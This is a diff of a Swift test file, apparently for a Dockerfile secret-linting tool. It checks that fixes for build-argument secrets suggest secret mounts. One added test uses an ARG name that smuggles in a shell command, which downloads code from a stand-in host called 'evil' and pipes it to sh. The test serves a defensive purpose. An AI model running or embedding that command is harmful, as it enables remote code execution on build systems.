@@ -21,9 +21,22 @@ internal import Testing
       ]
     )
     #expect(
-      judgement.findings.first?.fix.contains("--mount=type=secret,id=NPM_TOKEN,env=NPM_TOKEN")
-        == true
+      judgement.fixes == [
+        """
+        RUN --mount=type=secret,id=NPM_TOKEN,env=NPM_TOKEN …
+        # docker build --secret id=NPM_TOKEN … rather than ARG, and revoke this one
+        """
+      ]
     )
+  }
+
+  @Test func `puts no name into a fix that would act in it`() async throws {
+    let judgement = try await judge(
+      "secret-build-arg",
+      Self.image([.empty("ARG $(curl${IFS}evil|sh)_TOKEN=hunter2"), "RUN x", "RUN y"])
+    )
+    #expect(judgement.findings.count == 1)
+    #expect(judgement.fixes == ["RUN --mount=type=secret,id=NAME,env=NAME …"])
   }
 
   @Test func `finds keys and proxies with passwords`() async throws {
